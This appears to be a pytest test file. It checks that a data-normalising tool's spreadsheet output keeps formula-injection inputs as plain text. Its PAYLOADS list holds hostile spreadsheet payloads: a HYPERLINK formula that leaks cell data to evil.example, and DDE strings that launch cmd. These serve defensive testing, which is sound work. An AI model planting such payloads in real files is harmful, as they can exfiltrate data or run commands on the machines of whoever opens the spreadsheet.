"""Named check 29: what an input smuggles into the output stays text. Cells that a spreadsheet would run as
formulas (`=HYPERLINK(...)`, DDE `+cmd|...`, `@SUM(...)`, `-...`) come out of a real `ade run` of the sample
roster package as strings: the worksheet XML holds no formula element."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from openpyxl import load_workbook

from sandbox_helpers import NO_JOB_PYTHON

pytestmark = pytest.mark.skipif(bool(NO_JOB_PYTHON), reason=NO_JOB_PYTHON or "jobs can run")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "=1+1",
]


def _members_csv(path):
    buf = io.StringIO()
    out = csv.writer(buf, lineterminator="\n")
    out.writerow(["Member ID", "First Name", "Last Name", "Email", "City", "Notes"])
    for i, payload in enumerate(PAYLOADS):
        out.writerow([f"M-{100 + i}", "Ann", "Berg", f"m{i}@example.com", payload, payload])
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def test_no_formula_injection_in_output(tmp_path, run_ade, sample_configs):
    src = _members_csv(tmp_path / "members.csv")
    out = tmp_path / "out"
    proc = run_ade("run", src, "--config", sample_configs / "member_roster", "--out", out, "--json")
    assert proc.returncode == 0, (proc.stdout, proc.stderr)
    assert json.loads(proc.stdout)["status"] == "succeeded"

    workbook = out / "normalized.xlsx"
    with zipfile.ZipFile(workbook) as zf:
        sheets = [n for n in zf.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        assert sheets
        for name in sheets:
            xml = zf.read(name)
            assert b"<f>" not in xml and b"<f " not in xml, f"a formula element in {name}"
    wb = load_workbook(workbook)  # not read-only: cell data types are kept
    try:
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value in PAYLOADS]
        assert {c.value for c in cells} == set(PAYLOADS)  # every payload arrived, unchanged
        assert len(cells) >= 2 * len(PAYLOADS)
        assert {c.data_type for c in cells} == {"s"}
    finally:
        wb.close()
